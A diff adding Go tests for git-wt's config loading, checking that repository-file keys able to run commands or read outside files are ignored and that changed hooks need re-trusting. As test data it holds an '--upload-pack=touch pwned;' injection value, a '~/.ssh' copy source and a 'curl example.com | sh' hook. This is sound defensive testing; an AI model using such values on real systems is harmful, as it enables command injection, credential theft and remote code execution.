@@ -0,0 +1,156 @@
+package git
+
+import (
+	"reflect"
+	"slices"
+	"testing"
+
+	"github.com/k1LoW/git-wt/testutil"
+)
+
+func TestLoadConfig_RepoConfigFile(t *testing.T) {
+	repo := testutil.NewTestRepo(t)
+	repo.CreateFile("README.md", "# Test")
+	repo.CreateFile(RepoConfigFile, `[wt]
+	basedir = ../{gitroot}-shared
+	nocd = true
+	copy = .env
+	hook = npm install
+`)
+	repo.Commit("initial commit")
+
+	restore := repo.Chdir()
+	defer restore()
+
+	cfg, err := LoadConfig(t.Context())
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	if cfg.BaseDir != "../{gitroot}-shared" {
+		t.Errorf("LoadConfig().BaseDir = %q, want %q", cfg.BaseDir, "../{gitroot}-shared") //nostyle:errorstrings
+	}
+	if cfg.NoCd != NoCdAll {
+		t.Errorf("LoadConfig().NoCd = %q, want %q", cfg.NoCd, NoCdAll) //nostyle:errorstrings
+	}
+	if !reflect.DeepEqual(cfg.RepoHooks, []string{"npm install"}) {
+		t.Errorf("LoadConfig().RepoHooks = %v, want %v", cfg.RepoHooks, []string{"npm install"}) //nostyle:errorstrings
+	}
+	if len(cfg.Hooks) != 0 {
+		t.Errorf("LoadConfig().Hooks = %v, want none", cfg.Hooks) //nostyle:errorstrings
+	}
+	configured, err := IsBaseDirConfigured(t.Context())
+	if err != nil {
+		t.Fatalf("IsBaseDirConfigured failed: %v", err)
+	}
+	if !configured {
+		t.Error("IsBaseDirConfigured() = false, want true for a basedir in the repository config file")
+	}
+
+	// git config takes precedence over the repository config file, and patterns are merged
+	repo.Git("config", "wt.basedir", "../local")
+	repo.Git("config", "wt.nocd", "false")
+	repo.Git("config", "--add", "wt.copy", "*.local")
+	repo.Git("config", "--add", "wt.hook", "make setup")
+
+	cfg, err = LoadConfig(t.Context())
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	if cfg.BaseDir != "../local" {
+		t.Errorf("LoadConfig().BaseDir = %q, want %q", cfg.BaseDir, "../local") //nostyle:errorstrings
+	}
+	if cfg.NoCd != NoCdOff {
+		t.Errorf("LoadConfig().NoCd = %q, want %q", cfg.NoCd, NoCdOff) //nostyle:errorstrings
+	}
+	if want := []string{".env", "*.local"}; !reflect.DeepEqual(cfg.Copy, want) {
+		t.Errorf("LoadConfig().Copy = %v, want %v", cfg.Copy, want) //nostyle:errorstrings
+	}
+	if want := []string{"make setup"}; !reflect.DeepEqual(cfg.Hooks, want) {
+		t.Errorf("LoadConfig().Hooks = %v, want %v", cfg.Hooks, want) //nostyle:errorstrings
+	}
+}
+
+func TestLoadConfig_RepoConfigFileIgnoredKeys(t *testing.T) {
+	repo := testutil.NewTestRepo(t)
+	repo.CreateFile("README.md", "# Test")
+	// Keys that could run commands or read files outside the worktree are ignored
+	repo.CreateFile(RepoConfigFile, `[wt]
+	remote = --upload-pack=touch pwned;
+	startpoint = origin/--upload-pack=touch pwned;
+	fetch = true
+	copysource = ~/.ssh
+	copyfrom = main
+	link = node_modules
+	trustedhooks = 0123
+	copy = .env
+[wt "release/*"]
+	link = .venv
+`)
+	repo.Commit("initial commit")
+
+	restore := repo.Chdir()
+	defer restore()
+
+	cfg, err := LoadConfigFor(t.Context(), "release/1.0", "")
+	if err != nil {
+		t.Fatalf("LoadConfigFor failed: %v", err)
+	}
+	if cfg.Remote != DefaultRemote || cfg.StartPoint != "" || cfg.Fetch || cfg.CopySource != "" || cfg.CopyFrom != "" || len(cfg.Link) != 0 {
+		t.Errorf("LoadConfigFor() = %+v, want keys not allowed in %s ignored", cfg, RepoConfigFile) //nostyle:errorstrings
+	}
+	if want := []string{".env"}; !reflect.DeepEqual(cfg.Copy, want) {
+		t.Errorf("LoadConfigFor().Copy = %v, want %v", cfg.Copy, want) //nostyle:errorstrings
+	}
+	for _, name := range []string{"wt.remote", "wt.startpoint", "wt.fetch", "wt.copysource", "wt.copyfrom", "wt.link", "wt.trustedhooks", "wt.release/*.link"} {
+		want := name + " cannot be set in .gitwt (ignored)"
+		if !slices.Contains(cfg.Warnings, want) {
+			t.Errorf("LoadConfigFor().Warnings = %v, want %q", cfg.Warnings, want) //nostyle:errorstrings
+		}
+	}
+
+	origin, err := ConfigOrigin(t.Context(), "wt.remote")
+	if err != nil {
+		t.Fatalf("ConfigOrigin failed: %v", err)
+	}
+	if origin != OriginDefault {
+		t.Errorf("ConfigOrigin(%q) = %q, want %q", "wt.remote", origin, OriginDefault)
+	}
+}
+
+func TestTrustHooks(t *testing.T) {
+	repo := testutil.NewTestRepo(t)
+	repo.CreateFile("README.md", "# Test")
+	repo.Commit("initial commit")
+
+	restore := repo.Chdir()
+	defer restore()
+
+	hooks := []string{"npm install"}
+	trusted, err := IsHooksTrusted(t.Context(), hooks)
+	if err != nil {
+		t.Fatalf("IsHooksTrusted failed: %v", err)
+	}
+	if trusted {
+		t.Error("IsHooksTrusted() = true before trusting")
+	}
+
+	if err := TrustHooks(t.Context(), hooks); err != nil {
+		t.Fatalf("TrustHooks failed: %v", err)
+	}
+	trusted, err = IsHooksTrusted(t.Context(), hooks)
+	if err != nil {
+		t.Fatalf("IsHooksTrusted failed: %v", err)
+	}
+	if !trusted {
+		t.Error("IsHooksTrusted() = false after trusting")
+	}
+
+	// Changed hooks must be trusted again
+	trusted, err = IsHooksTrusted(t.Context(), []string{"npm install", "curl example.com | sh"})
+	if err != nil {
+		t.Fatalf("IsHooksTrusted failed: %v", err)
+	}
+	if trusted {
+		t.Error("IsHooksTrusted() = true for changed hooks")
+	}
+}